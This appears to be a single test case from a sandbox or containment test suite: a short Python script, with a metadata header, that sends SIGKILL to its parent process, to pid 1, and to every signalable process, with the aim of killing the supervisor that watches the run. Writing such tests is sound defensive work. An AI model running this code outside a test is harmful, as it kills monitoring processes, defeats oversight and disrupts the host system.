# id: proc-kill-supervisor
# category: process
# description: kill the parent, pid 1, and everything else the code may signal
# source: kill(2) with pid -1; a supervisor in the same pid namespace is just another process
# detect: supervisor (the process that watches the run dies)
import os
import signal

for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
